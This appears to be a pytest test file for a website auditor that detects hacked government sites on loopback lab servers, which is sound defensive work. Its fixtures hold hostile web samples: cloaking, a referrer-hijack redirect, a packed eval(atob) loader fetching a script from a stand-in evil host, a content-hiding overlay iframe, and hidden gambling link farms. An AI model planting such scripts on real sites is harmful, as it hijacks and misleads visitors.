"""The security/content veto family (issue 12) against a hacked lab site and a clean look-alike site.

Both sites run on loopback. The hacked one answers as an infected server would: another page for
search-engine crawler User-Agents, a redirect for visitors with a search-engine Referer, a script
that reads document.referrer, a hidden link farm in the footer, a packed eval(atob(…)) script, an
outbound link whose host (mapped with --resolve to another loopback server) serves a gambling
page, an outbound domain that does not exist (NXDOMAIN from the lab's DNS server), a 密级 stamp,
a misspelt leader's name and a future PubDate. The clean one carries every look-alike that must
never alarm: education articles quoting the words, 友情链接 to government sites, share buttons,
analytics, the 找错 script, a CSS dropdown menu, a skip link and an accessibility toolbar.
"""
from __future__ import annotations

import base64
import random
from datetime import date

import pytest

from netlab import DnsLab
from servers import LoopbackSite, Response, page

from auditor.views import security as sec

AS_OF = date(2026, 11, 20)
IDS = ["security.cloaking", "security.hijack", "security.dark-links", "security.injected-scripts",
       "security.hijacked-links", "content.classified", "content.serious-errors", "content.future-dates"]
FILL = "<p>" + "示例市人民政府门户网站发布本市政务信息、政策文件和办事服务指南。" * 12 + "</p>"
BOTS = ("Baiduspider", "Sogou", "360Spider", "Googlebot")
GAMBLING = page("澳门新葡京-百家乐-真人娱乐官方网站",
                "<h1>澳门新葡京娱乐城</h1><p>百家乐、老虎机、体育投注，注册送彩金，真人荷官在线发牌。</p>")
PARTNER = page("示例行业协会", FILL + "<p>本会是本市依法登记的行业组织。</p>")
# The shape of a script found loaded on a real provincial portal: a full-window frame of another
# site over the page, the page's own content hidden, the keywords split to dodge scanners.
OVERLAY_JS = ('var url = "https://www.overlay-ads.example.com/js/22.html";\n'
              "var ss = '<div id=\"asdsa\" style=\"height: 100%; width: 100%;\"><ifr'+'ame scrolling=\"yes\" "
              "width=\"100%\" height=\"100%\" src=\"'+url+'\"></iframe></div>"
              "<style>html{width:100%;height:100%}body{overflow:hidden}</style>';\n"
              'eval("do"+"cu"+"ment.wr"+"ite(\'"+ss+"\');");\n'
              'setInterval(function(){for(var i=0;i<document.body.children.length;i++){'
              'document.body.children[i].style.display="non"+"e";}},100);')


def _no_browser():
    from auditor.crawl.browser import unavailable_reason

    return unavailable_reason()


def _result(out, cid):
    return next(c for c in out.report["checks"] if c["id"] == cid)


@pytest.fixture
def dns():
    # lab.test is a zone the DNS server answers for: gone.lab.test is NXDOMAIN, partner.lab.test exists.
    lab = DnsLab({"lab.test": [("SOA", ""), ("NS", "ns1.lab.test")], "ns1.lab.test": [("A", "127.0.0.1")],
                  "partner.lab.test": [("A", "127.0.0.1")]}).start()
    yield lab
    lab.stop()


@pytest.fixture
def outside():
    """Two servers standing for other sites: a bought expired domain serving gambling, a normal partner."""
    bet = LoopbackSite({"/": GAMBLING, "*": GAMBLING,
                        "/js/kb.js": Response(OVERLAY_JS, content_type="application/javascript")}).start()
    partner = LoopbackSite({"/": PARTNER, "*": PARTNER}).start()
    yield bet, partner
    bet.stop()
    partner.stop()


def _audit(tmp_path, site, dns, bet, render="never"):
    from auditor.crawl.crawler import CrawlOptions
    from auditor.operations.audit import AuditConfig, run_audit

    crawl = CrawlOptions(rate=500, timeout=3, dns_server=dns.address, render=render,
                         resolve=(f"bet-casino.example.com:{bet.port}:127.0.0.1",))
    return run_audit(site.url, AuditConfig(crawl=crawl, only=IDS, as_of=AS_OF), tmp_path / "out")


# -- the hacked lab site -------------------------------------------------------------------------------
def _packed(js: str) -> str:
    return f'<script>eval(atob("{base64.b64encode(js.encode()).decode()}"))</script>'


def hacked_routes(bet_port: int, partner_port: int) -> dict:
    bet = f"http://bet-casino.example.com:{bet_port}/"
    farm = "".join(f'<a href="http://www{i}.dafa-bet{i}.top/">澳门新葡京{i}</a>' for i in range(3))

    def home(h):
        ua = h.headers.get("User-Agent", "")
        if any(b in ua for b in BOTS):
            return Response(GAMBLING)  # 快照劫持: crawlers get the gambling page
        return Response(page("示例市人民政府", FILL
                             + '<a href="/xwzx/1.html">市政府召开常务会议</a><a href="/xwzx/2.html">学习贯彻会议精神</a>'
                             + '<a href="/xwzx/3.html">最新动态</a><a href="/tzgg/1.html">关于做好有关工作的通知</a>'
                             + f'<a href="{bet}">示例行业协会</a>'
                             + f'<a href="http://partner.lab.test:{partner_port}/">合作单位</a>'
                             + '<a href="http://gone.lab.test/">原专题网站</a>'
                             + '<script src="/js/common.js"></script>'
                             + f'<script src="http://bet-casino.example.com:{bet_port}/js/kb.js"></script>'
                             + f'<div class="footer">版权所有：示例市人民政府<div style="position:absolute;left:-9999px;top:-9999px">{farm}</div></div>'))

    def news(h):
        if "baidu.com" in (h.headers.get("Referer") or ""):
            return Response("", 302, {"Location": bet})
        return Response(page("市政府召开常务会议", FILL + "<p>发布时间：2026-11-18</p>"))

    referrer_js = ('var r = document.referrer;\n'
                   'if (r.indexOf("baidu") > -1 || r.indexOf("sogou") > -1 || r.indexOf("so.com") > -1) {\n'
                   '  window.location.href = "http://www.hijack-casino.example.net/";\n}\n')
    packed = _packed("document.write('<script src=\"http://evil-js.example.xyz/tj.js\"></scr'+'ipt>')")
    return {
        "/": home,
        "/js/common.js": Response(referrer_js, content_type="application/javascript"),
        "/xwzx/1.html": news,
        "/xwzx/2.html": page("学习贯彻会议精神", FILL + "<p>深入学习贯彻习近凭总书记重要讲话精神。</p><p>发布时间：2026-11-10</p>"
                             + packed),
        "/xwzx/3.html": page("最新动态", FILL + "<p>发布时间：2027-01-15</p>",
                             head='<meta name="PubDate" content="2027-01-15 09:00">'),
        "/tzgg/1.html": page("关于做好有关工作的通知", '<p class="mj">机密★1年</p><h1>关于做好有关工作的通知</h1>' + FILL
                             + "<p>发布时间：2026-11-01</p>"),
    }


def test_hacked_lab_site_is_caught_pattern_by_pattern(tmp_path, dns, outside):
    bet, partner = outside
    with LoopbackSite(hacked_routes(bet.port, partner.port)) as site:
        out = _audit(tmp_path, site, dns, bet)
    got = {cid: _result(out, cid) for cid in IDS}
    assert {cid: r["status"] for cid, r in got.items()} == {cid: "fail" for cid in IDS}, \
        {cid: (r["status"], r["summary"]["zh"]) for cid, r in got.items()}

    cloak = got["security.cloaking"]
    assert set(cloak["details"]["agents"]) == set(BOTS)
    assert any("澳门新葡京" in e["excerpt"] and "示例市人民政府" in e["excerpt"] for e in cloak["evidence"])

    hijack = " ".join(e["excerpt"] + e["note"]["zh"] for e in got["security.hijack"]["evidence"])
    assert "bet-casino.example.com" in hijack                    # the server's redirect for a Baidu Referer
    assert "www.hijack-casino.example.net" in hijack             # the script reading document.referrer

    dark = got["security.dark-links"]["evidence"]
    assert {e["excerpt"].split('href="')[1].split('"')[0] for e in dark} == {
        f"http://www{i}.dafa-bet{i}.top/" for i in range(3)}
    assert all("left:-9999px" in e["excerpt"] for e in dark)

    scripts = got["security.injected-scripts"]["evidence"]
    assert any("evil-js.example.xyz" in e["note"]["zh"] and "document.write" in e["excerpt"] for e in scripts)
    assert any(e["url"].endswith("/js/kb.js") and "全屏框架" in e["note"]["zh"] for e in scripts)  # fetched from its host

    links = got["security.hijacked-links"]
    notes = [e["note"]["zh"] for e in links["evidence"]]
    assert any("赌博" in n for n in notes)                         # the bought domain
    assert any("gone.lab.test" in e["excerpt"] and "nxdomain" in e["excerpt"] for e in links["evidence"])
    assert not any("partner.lab.test" in e["excerpt"] for e in links["evidence"])

    assert got["content.classified"]["evidence"][0]["excerpt"].startswith("「机密★1年」")
    assert "习近凭" in got["content.serious-errors"]["evidence"][0]["note"]["zh"]
    assert "习近平" in got["content.serious-errors"]["evidence"][0]["note"]["zh"]
    assert got["content.future-dates"]["evidence"][0]["url"].endswith("/xwzx/3.html")

    assert out.report["verdict"] == "fail" and set(out.report["veto"]["checks"]) == set(IDS)  # veto items failed
    html = (tmp_path / "out" / "scorecard.html").read_text("utf-8")
    assert "报告本地网信部门和公安机关" in html and "清除" in html and "排查" in html
    assert "机密★1年" in html and "dafa-bet0.top" in html


# -- the clean site with every look-alike ------------------------------------------------------------
def clean_routes(partner_port: int) -> dict:
    analytics = (
        '<script>var _hmt = _hmt || [];(function() {var hm = document.createElement("script");'
        'hm.src = "https://hm.baidu.com/hm.js?0123456789abcdef";var s = document.getElementsByTagName("script")[0];'
        's.parentNode.insertBefore(hm, s);})();</script>'
        '<script>var cnzz_protocol = (("https:" == document.location.protocol) ? "https://" : "http://");'
        'document.write(unescape("%3Cspan id=\'cnzz_stat_icon_1000\'%3E%3C/span%3E%3Cscript src=\'" + cnzz_protocol + '
        '"s4.cnzz.com/z_stat.php%3Fid%3D1000\' type=\'text/javascript\'%3E%3C/script%3E"));</script>'
        "<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)},"
        "i[r].l=1*new Date();a=s.createElement(o),m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)"
        "})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');</script>"
        '<script id="_jiucuo_" sitecode="4401000001" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>'
        '<script src="http://bdimg.share.baidu.com/static/api/js/share.js?v=89860593.js"></script>'
        '<script src="https://wza.isc.cn/wza/wza.js"></script>'
        # a mobile redirect and a referrer counter: same-site, not a hijack
        '<script>if (/Android|iPhone/i.test(navigator.userAgent)) { window.location.href = "/m/index.html"; }'
        'var ref = document.referrer; new Image().src = "/stat.gif?r=" + encodeURIComponent(ref);</script>')
    menu = ('<style>.sub-menu{display:none} .skip{position:absolute;left:-9999px}</style>'
            '<a class="skip" href="#main">跳到主要内容</a>'
            '<ul class="nav"><li>政务公开<ul class="sub-menu"><li><a href="/zwgk/">政府信息公开</a></li>'
            '<li><a href="http://www.gd.gov.cn/">省政府门户网站</a></li></ul></li></ul>'
            '<div style="display:none"><a href="https://weibo.com/examplecity">官方微博</a>'
            '<a href="http://www.example-partner.com/">合作媒体</a></div>')
    friends = ('<div class="yqlj">友情链接：<a href="http://www.gov.cn/">中国政府网</a>'
               '<a href="http://www.gd.gov.cn/">广东省人民政府</a>'
               f'<a href="http://partner.lab.test:{partner_port}/">示例行业协会</a></div>')
    home = page("示例市人民政府", menu + FILL + '<a href="/xwzx/1.html">警惕网络赌博</a><a href="/xwzx/2.html">保密知识</a>'
                + '<a href="/xwzx/3.html">学习贯彻会议精神</a>' + friends + analytics)
    return {
        "/": home,
        "/xwzx/1.html": page("警惕网络赌博 远离赌博陷阱", FILL
                             + "<p>近期，我市公安机关破获一起网络赌博案件，涉案平台以“百家乐”“真人荷官”“注册送彩金”为诱饵。</p>"
                             + "<p>警方提醒：网络赌博违法，请广大市民远离老虎机、时时彩等赌博游戏，发现线索请举报。</p>"
                             + "<p>发布时间：2026-11-18</p>"),
        "/xwzx/2.html": page("保密知识：国家秘密的标志", FILL
                             + "<p>国家秘密的标志为“★”，格式为“密级★保密期限”，例如“秘密★1年”“机密★10年”。</p>"
                             + "<p>严防机密泄露，内部资料注意保存。</p><p>发布时间：2026-11-12</p>"),
        "/xwzx/3.html": page("学习贯彻会议精神", FILL
                             + "<p>深入学习贯彻习近平新时代中国特色社会主义思想，落实李强总理在会上的讲话要求。</p>"
                             + "<p>回顾总理李克强、温家宝总理当年考察我市的情况；共青团即中国共产主义青年团，"
                             + "德国共产党代表团来访；践行社会主义核心价值体系和社会主义核心价值观。</p>"
                             + "<p>条例自2027年1月1日起施行，成绩发布时间：2027-01-10。</p><p>发布时间：2026-11-20</p>",
                             head='<meta name="PubDate" content="2026-11-20 08:30">'),
        "/zwgk/": page("政府信息公开", FILL),
        "/m/index.html": page("示例市人民政府（手机版）", FILL),
    }


@pytest.mark.parametrize("render", ["never", pytest.param("always", marks=pytest.mark.skipif(
    _no_browser() is not None, reason="needs chromium"))])
def test_clean_site_with_every_look_alike_gives_no_alarm(tmp_path, dns, outside, render):
    bet, partner = outside
    with LoopbackSite(clean_routes(partner.port)) as site:
        out = _audit(tmp_path, site, dns, bet, render=render)
    got = {cid: _result(out, cid) for cid in IDS}
    assert {cid: r["status"] for cid, r in got.items()} == {cid: "pass" for cid in IDS}, \
        {cid: (r["status"], r["summary"]["zh"], r["evidence"][:2]) for cid, r in got.items()}
    assert got["security.dark-links"]["details"]["hidden_links_ignored"] >= 2  # the menu, the skip link
    assert got["security.hijacked-links"]["details"]["answered"] >= 1


# -- the analysis, case by case -----------------------------------------------------------------------
D = sec.data()


def test_education_sentences_are_not_injected_vocabulary():
    assert sec.vocab_hits("警方提醒：远离百家乐等赌博游戏。", D) == []
    hits = sec.vocab_hits("澳门新葡京娱乐城，百家乐在线。", D)
    assert sec.distinct_terms(hits) == ["澳门新葡京", "娱乐城", "百家乐"] or len(sec.distinct_terms(hits)) >= 2


def test_script_analysis_decodes_packers_and_spares_known_services():
    packed = 'eval(atob("' + base64.b64encode(b'window.location.href="http://x.bad.top/"').decode() + '"))'
    f = sec.analyse_script(packed, "www.example.gov.cn", D)
    assert [x.kind for x in f] == ["packed-navigation"] and "x.bad.top" in f[0].decoded
    chars = ",".join(str(ord(c)) for c in 'location.replace("http://y.bad.xyz/")')
    assert sec.analyse_script(f"eval(String.fromCharCode({chars}))", "www.example.gov.cn", D)[0].url.startswith("http://y.bad.xyz")
    cnzz = ('document.write(unescape("%3Cscript src=\'https://s4.cnzz.com/z_stat.php%3Fid%3D1\' '
            'type=\'text/javascript\'%3E%3C/script%3E"));')
    assert sec.analyse_script(cnzz, "www.example.gov.cn", D) == []
    own = 'if(document.referrer.indexOf("baidu")>-1){location.href="http://www.example.gov.cn/m/";}'
    assert sec.analyse_script(own, "www.example.gov.cn", D) == []


def test_hidden_links_static_rules():
    from auditor.crawl.parse import parse_html

    html = ('<html><head><style>.x{display:none}</style></head><body>'
            '<div class="x"><a href="http://a.example.com/">a</a></div>'
            '<marquee height="1" width="1"><a href="http://b.example.com/">b</a></marquee>'
            '<div id="hideme"><a href="http://c.example.com/">c</a></div>'
            '<script>document.getElementById("hideme").style.display="none";</script>'
            '<div style="background:#fff"><a style="color:#FFFFFF" href="http://d.example.com/">d</a></div>'
            '<a href="http://e.example.com/">visible</a></body></html>')
    found = {h.url for h in sec.hidden_links(parse_html(html), "http://www.example.gov.cn/")}
    assert found == {"http://a.example.com/", "http://b.example.com/", "http://c.example.com/", "http://d.example.com/"}


def test_hidden_rules_are_read_per_template_text():
    """The <style>/<script> rules are cached by their text: pages of one template share them, and
    a page whose rules differ gets its own (the same class visible there)."""
    from auditor.crawl.parse import parse_html

    hiding = ('<html><head><style>.x{display:none}</style></head><body>'
              '<div class="x"><a href="http://a.example.com/{n}">a</a></div></body></html>')
    showing = hiding.replace("display:none", "display:block")
    for n in range(3):
        assert [h.url for h in sec.hidden_links(parse_html(hiding.replace("{n}", str(n))), "http://www.example.gov.cn/")] \
            == [f"http://a.example.com/{n}"]
        assert sec.hidden_links(parse_html(showing.replace("{n}", str(n))), "http://www.example.gov.cn/") == []


def test_dark_links_parse_again_only_pages_with_a_link_off_the_site():
    """security.dark-links reads again only the served pages with a link that leaves the site and
    is not a government site or a known service: a hidden link anywhere else is never a finding."""
    from types import SimpleNamespace

    from auditor.checking.profile import load_profile
    from auditor.crawl.parse import extract, parse_html
    import checks.security_dark_links as dark

    base = "http://www.example.gov.cn/"
    on_site = ('<html><body><div style="display:none"><a href="/menu.html">菜单</a>'
               '<a href="http://www.gov.cn/">中国政府网</a></div><a href="/a.html">正文</a></body></html>')
    injected = ('<html><body><div style="display:none"><a href="http://bet.example.com/">澳门博彩 网上赌场</a></div>'
                '<a href="/a.html">正文</a></body></html>')
    reads = []

    class Served(SimpleNamespace):
        rendered = False

        @property
        def tree(self):
            reads.append(self.final_url)
            return parse_html(self.html)

    pages = [Served(final_url=base + name, html=html, links=extract(html, base + name).links)
             for name, html in (("x.html", on_site), ("y.html", injected))]
    snap = SimpleNamespace(site_host="www.example.gov.cn", html_pages=lambda: iter(pages), facts={})
    result = dark.run.func(snap, load_profile(None), {"max_pages": 300, "computed_sample_pages": 10})
    assert reads == [base + "y.html"]
    assert result.status.value == "fail" and result.details["pages"] == 2
    assert any("bet.example.com" in e.excerpt for e in result.evidence)


def test_stamps_are_whole_elements_not_prose():
    from auditor.crawl.parse import parse_html

    tree = parse_html('<body><p>000123 秘密★5年</p><div>（此件不公开）</div><p>内部资料 注意保存</p>'
                      '<p>格式为“秘密★1年”，严防机密泄露。</p></body>')
    assert sec.stamps(tree) == ["秘密★5年", "(此件不公开)", "内部资料 注意保存"]


def test_stamps_in_nested_markup_and_only_pages_with_a_sign_are_parsed_again():
    """A stamp split over inline elements is still one stamp, and one inside a large block is
    found. page_stamps() parses a page again only when its crawled text has a sign every stamp
    carries (★, 注意保存, 不公开 …) or was cut at MAX_TEXT (the stamp may lie past the cut)."""
    from types import SimpleNamespace

    from auditor.crawl.parse import MAX_TEXT, parse_html

    tree = parse_html("<body><div>" + "<p>正文段落。</p>" * 50 + "<div><span>份号：000123</span>"
                      "<span>机密<b>★</b>1年</span></div><p>内部资料<b>注意保存</b></p></div></body>")
    assert sec.stamps(tree) == ["机密★1年", "内部资料注意保存"]

    class Unparsed(SimpleNamespace):
        @property
        def tree(self):
            raise AssertionError("parsed again")

    assert sec.page_stamps(Unparsed(text="示例市人民政府 通知公告 2026-11-01 机密文件管理办法解读")) == []
    stamped = "<body><p>秘密★1年</p><p>正文</p></body>"
    assert sec.page_stamps(SimpleNamespace(text="秘密★1年 正文", tree=parse_html(stamped))) == ["秘密★1年"]
    cut = SimpleNamespace(text="正" * MAX_TEXT, tree=parse_html(stamped))  # its text says nothing past the cut
    assert sec.page_stamps(cut) == ["秘密★1年"]


def test_misstatements():
    found = sec.misstatements("会议传达了习近凭总书记的讲话。国务院总理李强出席。中华人民共合国成立。总书记习进平指出。", D)
    assert {(m.wrong, m.right) for m in found} == {("习进平", "习近平"), ("习近凭", "习近平"), ("中华人民共合国", "中华人民共和国")}
    assert any("习近凭总书记" in m.sentence for m in found)
    clean = "总理李克强、温家宝总理、李强总理、副总理何立峰；德国共产党；中国共产主义青年团；社会主义核心价值体系。"
    assert sec.misstatements(clean, D) == []


def _typos_by_brute_force(text: str, terms, allowed) -> set[tuple[str, str]]:
    """Every window of every term's length, compared with the term character by character."""
    out = set()
    for term in terms:
        n = len(term)
        for s in range(len(text) - n + 1):
            cand = text[s: s + n]
            diff = [i for i in range(n) if cand[i] != term[i]]
            if len(diff) == 1 and "\u4e00" <= cand[diff[0]] <= "\u9fff" and cand not in allowed:
                out.add((cand, term))
    return out


def test_near_miss_formulations_are_every_window_one_chinese_character_away():
    """The regexes find what comparing every window would: a typo at any position of each
    term (first, second, middle, last), overlapping typos, typos beside the correct term, and
    nothing for the term itself, two changed characters, a non-Chinese change or an allowed window."""
    forms = D["formulations"]
    terms, allowed = forms["near_miss"], set(forms["allowed"])
    only_near = {"leaders": {}, "formulations": {"near_miss": terms, "allowed": sorted(allowed)}}
    texts = ["中华人民共和国成立。中华民族伟大复兴。", "社会主义核心价值体系和社会主义核心价值观",
             "中国特色社会主义中国特色社会主义思想", "不忘初心、牢记使命", "不忘初心,牢记使命"]
    for term in terms:
        for i in range(len(term)):
            typo = term[:i] + ("甲" if term[i] != "甲" else "乙") + term[i + 1:]
            texts += [f"前文{typo}后文", f"{term}{typo}", f"{typo}{typo}", typo[:-1], f"{typo}{term}"]
        two_off = "丙丁" + term[2:]
        texts.append(two_off)
    rng = random.Random(14)
    alphabet = "".join(sorted(set("".join(terms)))) + "甲乙丙、,a "
    texts += ["".join(rng.choice(alphabet) for _ in range(400)) for _ in range(200)]
    texts += ["".join(rng.choice(terms) if rng.random() < 0.3 else rng.choice(alphabet) for _ in range(120))
              for _ in range(200)]
    for text in texts:
        found = {(m.wrong, m.right) for m in sec.misstatements(text, only_near)}
        assert found == _typos_by_brute_force(text, terms, allowed), text
    assert sec.misstatements("中华人民共合国", only_near)[0].sentence == "中华人民共合国"
    assert not sec.misstatements("中华人名共合国 中华人民共和国 不忘初心,牢记使命 社会主义核心价值体系", only_near)
    # A term of two characters has no literal to start from and is still found.
    short = {"leaders": {}, "formulations": {"near_miss": ["共产"], "allowed": []}}
    assert {m.wrong for m in sec.misstatements("共铲 弄产 共产 a产", short)} == {"共铲", "弄产"}
    empty = {"leaders": {}, "formulations": {"near_miss": [""], "allowed": []}}
    assert sec.misstatements("中华人民共和国", empty) == []


def test_one_off():
    assert sec._one_off("中华人民共合国", "中华人民共和国")
    assert sec._one_off("甲乙", "丙乙") and sec._one_off("甲乙", "甲丙")
    assert not sec._one_off("中华人民共和国", "中华人民共和国")
    assert not sec._one_off("中华人名共合国", "中华人民共和国")  # two changed
    assert not sec._one_off("中华人民共和", "中华人民共和国")


# -- the rendered DOM ------------------------------------------------------------------------------
@pytest.mark.skipif(_no_browser() is not None, reason="needs chromium")
def test_links_a_script_writes_and_hides_are_read_from_the_rendered_dom(tmp_path, dns, outside):
    """The link farm is written by a script and hidden by a script through a class-less selector the
    static rules cannot follow: only the browser's DOM (style="display: none") shows it."""
    bet, _ = outside
    script = ('<div class="f"></div><script>var box = document.querySelector("div.f");'
              'box.innerHTML = \'<a href="http://www.sun-city.example.vip/">太阳城集团 百家乐</a>\';'
              'box.style.display = "none";</script>')
    with LoopbackSite({"/": page("示例市人民政府", FILL + script)}) as site:
        out = _audit(tmp_path, site, dns, bet, render="always")
    r = _result(out, "security.dark-links")
    assert r["status"] == "fail", r["summary"]
    assert "sun-city.example.vip" in r["evidence"][0]["excerpt"] and "rendered" in r["evidence"][0]["note"]["en"]
    assert r["details"]["rendered_pages"] == 1


@pytest.mark.skipif(_no_browser() is not None, reason="needs chromium")
def test_computed_styles_catch_what_static_rules_cannot(tmp_path, dns, outside):
    """A descendant selector in the site's own stylesheet moves the farm off-screen; a class
    colours a link white on white. Only the browser's computed styles see either; the skip link,
    the hidden government menu and a visible partner link stay out of the findings."""
    bet, _ = outside
    css = (".ft .farm a{position:absolute;left:-5000px} .w{color:#fff} body{background:#fff}"
           " .skip{position:absolute;left:-9999px} .sub{display:none}")
    body = (FILL + '<a class="skip" href="#main">跳到主要内容</a>'
            '<ul><li>导航<ul class="sub"><li><a href="http://www.gd.gov.cn/">广东省人民政府</a></li></ul></li></ul>'
            '<a href="http://www.example-partner.com/">合作单位</a>'
            '<div class="ft"><div class="farm"><a href="http://www.jinsha.example.cc/">金沙娱乐 百家乐</a></div></div>'
            '<p><a class="w" href="http://www.av-online.example.com/">成人视频</a></p>')
    routes = {"/": page("示例市人民政府", body, head='<link rel="stylesheet" href="/css/site.css">'),
              "/css/site.css": Response(css, content_type="text/css")}
    with LoopbackSite(routes) as site:
        out = _audit(tmp_path, site, dns, bet, render="always")
    r = _result(out, "security.dark-links")
    assert r["status"] == "fail", r["summary"]
    found = {e["excerpt"].split('href="')[1].split('"')[0]: e for e in r["evidence"]}
    assert set(found) == {"http://www.jinsha.example.cc/", "http://www.av-online.example.com/"}
    assert "off-screen" in found["http://www.jinsha.example.cc/"]["excerpt"]
    assert "color rgb(255, 255, 255) on background rgb(255, 255, 255)" in found["http://www.av-online.example.com/"]["excerpt"]
    assert all("computed" in e["note"]["en"] for e in r["evidence"])
    assert r["details"]["computed_style_state"] == "done" and r["details"]["computed_style_pages"] >= 1


def test_real_page_look_alikes_found_on_government_sites():
    """Texts and scripts seen on real portals that an earlier rule took for injected content."""
    assert sec.vocab_hits("如有诬陷、制造假证行为，必须承担纪律和法律责任", D) == []
    assert sec.vocab_hits("使领馆在实行“单向邮寄”办证方式的基础上试行“双向邮寄”办证", D) == []
    # A captcha library: reads document.referrer for a fingerprint, beacons to its own host,
    # and navigates far away in unrelated code.
    lib = ('var fp=location.href+document.referrer+navigator.userAgent;' + "x=1;" * 300
           + 'new Image().src="//www.webdissector.com/recv/gs.gif";' + "y=2;" * 300
           + 'if(engine=="baidu"){}' + "z=3;" * 300 + 'window.location.href=next;')
    assert sec.analyse_script(lib, "www.example.gov.cn", D) == []
    assert sec.analyse_script("document.write(\"<script src='http://pv.sohu.com/cityjson?ie=utf-8'></script>\");",
                              "www.example.gov.cn", D) == []
    written = sec.analyse_script("document.write(\"<script src='http://counter.example.com/c.js'></script>\");",
                                 "www.example.gov.cn", D)
    assert [f.kind for f in written] == ["written-script"]  # a warning in security.injected-scripts, not a veto


# -- attachments -----------------------------------------------------------------------------------
def _docx(*paragraphs: str) -> bytes:
    import io
    import zipfile

    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = "".join(f"<w:p><w:r><w:t>{p}</w:t></w:r></w:p>" for p in paragraphs)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("word/document.xml", f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{w}"><w:body>{body}</w:body></w:document>')
    return buf.getvalue()


DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def test_stamp_on_an_attachments_first_page(audit_site):
    notice = page("关于印发工作方案的通知", FILL + '<a href="/files/fa.docx">工作方案.docx</a><a href="/files/sm.txt">说明.txt</a>'
                  + '<a href="/files/old.doc">旧版附件.doc</a>')
    routes = {"/": page("示例市人民政府", FILL + '<a href="/tzgg/1.html">关于印发工作方案的通知</a>'),
              "/tzgg/1.html": notice,
              "/files/fa.docx": Response(_docx("000012", "机密★5年", "示例市人民政府办公室", "关于……的工作方案"), content_type=DOCX),
              "/files/sm.txt": Response("国家秘密的标志格式为“秘密★1年”。".encode(), content_type="text/plain; charset=utf-8"),
              "/files/old.doc": Response(b"\xd0\xcf\x11\xe0", content_type="application/msword")}
    r = _result(audit_site(routes, only=["content.classified"]), "content.classified")
    assert r["status"] == "fail", r["summary"]
    assert [e["url"].rsplit("/", 1)[-1] for e in r["evidence"]] == ["fa.docx"]
    assert r["evidence"][0]["excerpt"].startswith("「机密★5年」")
    assert r["details"]["attachments"] == 3 and r["details"]["attachments_read"] == 2

    routes["/files/fa.docx"] = Response(_docx("示例市人民政府办公室", "关于……的工作方案"), content_type=DOCX)
    r = _result(audit_site(routes, only=["content.classified"]), "content.classified")
    assert r["status"] == "pass" and "1 个附件未读" in r["summary"]["zh"], r["summary"]


@pytest.mark.skipif(_no_browser() is not None, reason="needs chromium to print a PDF")
def test_stamp_on_a_pdf_attachments_first_page(audit_site):
    from auditor.crawl.browser import launch

    with launch() as browser:
        bpage = browser.new_page()
        bpage.set_content("<html><body><p>000012</p><p>秘密★1年</p><h1>关于开展专项检查的通知</h1></body></html>")
        pdf = bpage.pdf()
    routes = {"/": page("示例市人民政府", FILL + '<a href="/files/tz.pdf">关于开展专项检查的通知.pdf</a>'),
              "/files/tz.pdf": Response(pdf, content_type="application/pdf")}
    r = _result(audit_site(routes, only=["content.classified"]), "content.classified")
    assert r["status"] == "fail" and r["evidence"][0]["url"].endswith("/files/tz.pdf"), r["summary"]
    assert "秘密★" in r["evidence"][0]["excerpt"]


def test_hostile_markup_nesting_deep_does_not_break_the_analysis():
    """Deeper than Python's recursion limit (a tree built directly: the HTML parser caps depth)."""
    from lxml import etree

    root = etree.Element("html")
    el = etree.SubElement(root, "body")
    el.set("style", "display:none")
    for _ in range(3000):
        el = etree.SubElement(el, "div")
    a = etree.SubElement(el, "a", href="http://x.bad.top/")
    a.text = "百家乐"
    found = sec.hidden_links(root, "http://www.example.gov.cn/")
    assert [(h.url, h.why) for h in found] == [("http://x.bad.top/", 'style="display:none"')]
    assert sec.stamps(root) == []


def test_full_window_frame_overlay_found_on_a_real_portal():
    js = OVERLAY_JS
    kinds = {f.kind for f in sec.analyse_script(js, "www.example.gov.cn", D)}
    assert "overlay-iframe" in kinds
    # A map embedded at full size by ordinary string building is not one.
    embed = ("var h = '<div class=\"map\">' + '<iframe src=\"https://tour.example-vr.com/pano/1\" "
             "width=\"100%\" height=\"100%\"></iframe>' + '</div>'; document.getElementById('m').innerHTML = h;")
    assert sec.analyse_script(embed, "www.example.gov.cn", D) == []
